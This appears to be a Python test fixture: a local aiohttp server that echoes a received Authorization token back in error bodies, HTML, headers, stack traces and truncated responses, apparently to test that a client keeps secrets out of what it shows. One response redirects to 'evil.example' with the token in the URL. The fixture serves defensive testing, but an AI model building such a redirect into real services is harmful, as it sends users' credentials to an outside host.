"""A source that returns the received credential in its responses, in all parts in which a response can contain it."""

from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass

from aiohttp import web
from web_app import running

__all__ = ["KINDS", "LeakingSource"]


def _error(status: int) -> Callable[[str], web.Response]:
    """Return an error in the formats of all three sources, with the credential in each of its texts."""

    def respond(secret: str) -> web.Response:
        message = f"the token {secret} is not right"
        error = {"code": "validation_failed", "type": "invalid_request_error", "message": message, "param": "name"}
        problem = {"title": message, "detail": message, "errors": {"firstName": [message]}, "traceId": "t-1"}
        return web.json_response({"error": error, "message": message, "code": "X"} | problem, status=status)

    return respond


def _incomplete(secret: str) -> web.Response:
    response = web.Response(text=secret, headers={"Content-Length": "1000"})
    response.force_close()
    return response


KINDS: dict[str, Callable[[str], web.Response]] = {
    **{f"a documented {status}": _error(status) for status in (400, 401, 402, 403, 404, 409, 422, 429, 500, 503)},
    "a page": lambda secret: web.Response(text=f"<html>{secret}</html>", content_type="text/html"),
    "a page of a proxy": lambda secret: web.Response(
        text=f"<html>{secret}</html>", content_type="text/html", status=502
    ),
    "another shape": lambda secret: web.json_response({"id": {"token": secret}, "data": secret, "$meta": [secret]}),
    "a stack": lambda secret: web.Response(text=f"Traceback: at Authorization: {secret}", status=500),
    "a redirect": lambda secret: web.Response(status=302, headers={"Location": f"https://evil.example/?t={secret}"}),
    "a header": lambda secret: web.Response(
        status=418, headers={"Request-ID": "r-1", "X-Debug": secret}, reason=secret
    ),
    "half of it": _incomplete,
    "no status that there is": lambda secret: web.Response(status=599, text=secret),
}


@dataclass
class LeakingSource:
    """Responds with the given kind of response, and counts the requests."""

    url: str = ""
    kind: str = "a page"
    request_count: int = 0

    async def respond(self, request: web.Request) -> web.Response:
        self.request_count += 1
        return KINDS[self.kind](request.headers.get("Authorization", "").rpartition(" ")[2])

    @asynccontextmanager
    async def serve(self) -> AsyncIterator["LeakingSource"]:
        """Run the source until the block ends."""
        app = web.Application()
        app.router.add_route("*", "/{path:.*}", self.respond)
        async with running(app) as self.url:
            yield self
